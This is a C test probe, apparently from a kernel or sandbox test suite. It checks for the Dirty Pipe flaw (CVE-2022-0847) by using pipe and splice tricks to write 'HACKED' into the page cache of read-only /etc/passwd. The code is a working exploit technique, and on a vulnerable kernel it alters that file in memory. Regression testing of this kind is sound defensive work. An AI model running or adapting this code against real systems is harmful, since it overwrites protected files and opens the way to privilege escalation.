// Writes into the page cache of a file it may only read, by way of a pipe (CVE-2022-0847).
// expect: exited 0
#include "probe.h"

int main(void)
{
    static char block[4096], before[64], after[64];
    int ends[2];
    const int file = open("/etc/passwd", O_RDONLY);
    WORKS(file);
    WORKS(pread(file, before, sizeof before, 0));
    WORKS(pipe(ends));
    const int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int filled = 0; filled < size; filled += sizeof block)
        WORKS(write(ends[1], block, sizeof block));
    for (int drained = 0; drained < size; drained += sizeof block)
        WORKS(read(ends[0], block, sizeof block));
    off_t offset = 1;
    WORKS(syscall(SYS_splice, file, &offset, ends[1], NULL, 1, 0));
    WORKS(write(ends[1], "HACKED", 6));
    WORKS(pread(file, after, sizeof after, 0));
    return memcmp(before, after, sizeof before) != 0;
}
